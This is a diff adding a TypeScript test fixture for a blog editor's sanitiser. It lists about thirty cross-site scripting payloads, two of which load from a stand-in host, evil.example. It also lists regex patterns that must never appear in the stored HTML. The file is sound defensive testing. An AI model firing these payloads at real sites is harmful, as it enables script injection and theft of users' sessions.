@@ -1,0 +1,55 @@
+/**
+ * Payloads pushed through the blog editor (as Markdown, which may hold raw HTML). Whatever the editor sends, the
+ * stored and served HTML must contain none of the patterns in UNSAFE_PATTERNS.
+ */
+export const XSS_CORPUS: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<body onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">tıkla</a>',
+  '<a href="JaVaScRiPt:alert(1)">tıkla</a>',
+  '<a href="&#106;avascript:alert(1)">tıkla</a>',
+  '<a href="jav&#x09;ascript:alert(1)">tıkla</a>',
+  '[tıkla](javascript:alert(1))',
+  '[tıkla](JAVASCRIPT:alert(1))',
+  '![x](javascript:alert(1))',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">veri</a>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><button>gönder</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<div style="background:url(javascript:alert(1))">stil</div>',
+  '<style>body{display:none}</style>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<link rel="import" href="//evil.example">',
+  '<video><source onerror="alert(1)"></video>',
+  '`<script>alert(1)</script>`',
+  '<<script>script>alert(1)<</script>/script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+];
+
+/** What must never appear in stored or served post HTML (case-insensitive). */
+export const UNSAFE_PATTERNS: readonly RegExp[] = [
+  /<script/i,
+  /<iframe/i,
+  /<object/i,
+  /<embed/i,
+  /<form/i,
+  /<style/i,
+  /<meta/i,
+  /<base/i,
+  /<link/i,
+  /\son[a-z]+\s*=/i,
+  /(href|src|action|data)\s*=\s*["']?\s*(javascript|data):/i,
+  /style\s*=/i,
+];
